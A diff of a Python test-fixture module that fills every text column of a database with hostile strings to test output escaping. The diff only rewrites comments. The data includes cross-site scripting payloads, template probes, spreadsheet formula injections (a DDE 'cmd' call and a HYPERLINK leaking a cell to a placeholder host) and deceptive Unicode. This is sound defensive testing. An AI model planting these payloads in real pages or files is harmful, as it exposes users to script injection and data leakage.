@@ -1,4 +1,4 @@
-"""Hostile text in every text column of every table, as the catalog has them."""
+"""Hostile text in every text column of every table, by the catalog."""
 
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
@@ -9,9 +9,9 @@ from psycopg import errors, sql
 from tests.schema.catalog import Catalog, read
 from tests.schema.rows import Rows
 
-#: Kinds of hostile text, each with the shorter ones that a narrow column gets.
+#: Kinds of hostile text, each with shorter texts for narrow columns.
 KINDS: dict[str, tuple[str, ...]] = {
-    # Out of an attribute, or out of an element.
+    # Text that breaks out of an attribute, or of an element.
     "markup": (
         "'\"></textarea></title><img src=x onerror=hit()><svg onload=hit()>",
         "'\"><img src=x onerror=hit()>",
@@ -19,7 +19,7 @@ KINDS: dict[str, tuple[str, ...]] = {
         "<b a='\">",
         '<"',
     ),
-    # Out of a script's string, or an address that is one.
+    # Text that breaks out of a script's string, or a URL that is a script.
     "script": (
         "javascript:hit()//</script><script>hit()</script>",
         "</script><script>hit()",
@@ -27,7 +27,7 @@ KINDS: dict[str, tuple[str, ...]] = {
         "<script>",
         "<!",
     ),
-    # What formats, templates and spreadsheets take for theirs.
+    # Text that format strings, templates and spreadsheets interpret.
     "format": (
         '=HYPERLINK("http://x.example/"&A1,"{0}%s%(a)s{{ 7|add:7 }}{% csrf_token %}")',
         "=cmd|' /C calc'!A0{0}%s{{ 7 }}",
@@ -36,30 +36,30 @@ KINDS: dict[str, tuple[str, ...]] = {
         "-1",
     ),
 }
-#: Text that is no attack, and breaks a page's layout or deceives its reader.
+#: Text that is not an attack, but breaks a page's layout or deceives its reader.
 SHAPES: dict[str, tuple[str, ...]] = {
     "unbroken": tuple("W" * size for size in (4_000, 500, 255, 100, 50, 30, 20, 10, 2)),
     "blank": ("     ", "  "),
     "invisible": ("\u200badmin_x\u2060", "\u3164\u200b", "\u200b", "\u2800"),
     "turned": ("\u202egnp.exe \u05d0\u05d1", "\u202eab", "\u05d0"),
 }
-#: What is never to be told, wherever it stands.
+#: A secret that must never be shown anywhere.
 SECRET = "S3CRET"
 
 
 @dataclass
 class Hostile:
-    """What was inserted: table to the row's key, and each column's text."""
+    """The inserted rows: each table's key, and each column's text."""
 
     kind: str
     keys: dict[str, Any] = field(default_factory=dict)
     texts: dict[tuple[str, str], str] = field(default_factory=dict)
-    #: Text columns in which a check of the database allows no such text.
+    #: Text columns whose checks do not allow such text.
     left_out: set[tuple[str, str]] = field(default_factory=set)
 
 
 def text_of(kind: str, type_: str) -> Any:
-    """The longest text of a kind that a column of this type takes; None: it holds no text."""
+    """The longest text of a kind that fits a column of this type; None if it stores no text."""
     texts = (KINDS | SHAPES)[kind]
     longest = texts[0]
     if type_ == "text":
@@ -78,7 +78,7 @@ def text_of(kind: str, type_: str) -> Any:
 def insert(
     cursor: Any, kind: str, secrets: dict[str, frozenset[str]], adapt: Callable[[Any], Any]
 ) -> Hostile:
-    """A row in each of the 28 tables, all of them about each other, with hostile text.
+    """Insert a row with hostile text into each of the 28 tables; the rows refer to each other.
 
     `secrets` are the columns of each table that get a text by which they are known in an answer;
     `adapt` makes a dictionary what the driver takes for jsonb.
@@ -101,7 +101,7 @@ def insert(
                 made.texts[table, name] = str(text)
             else:
                 made.left_out.add((table, name))
-    # An answer to the comment, so that it is shown too.
+    # A reply to the comment, so that it is shown too.
     cursor.execute(
         "INSERT INTO public.track_comments (track_id, user_id, parent_id, content)"
         " SELECT track_id, user_id, id, content FROM public.track_comments WHERE id = %s",
@@ -121,7 +121,7 @@ def _parents_first(catalog: Catalog) -> Iterator[str]:
 
 
 def _update(cursor: Any, table: str, column: str, key: Any, text: Any) -> bool:
-    """Put a text into a column; False when a check does not allow it."""
+    """Write a text into a column; return False if a check does not allow it."""
     cursor.execute("SAVEPOINT hostile")
     try:
         cursor.execute(
@@ -139,7 +139,7 @@ def _update(cursor: Any, table: str, column: str, key: Any, text: Any) -> bool:
 
 
 def remember(cursor: Any, made: Hostile, adapt: Callable[[Any], Any]) -> None:
-    """An entry of the staff log and a note about each of the rows, with hostile text too."""
+    """Add an entry of the staff log and a note about each row, also with hostile text."""
     for log in ("veza_site_stafflogentry", "veza_site_note"):
         cursor.execute(
             "SELECT attname, format_type(atttypid, atttypmod) FROM pg_attribute"
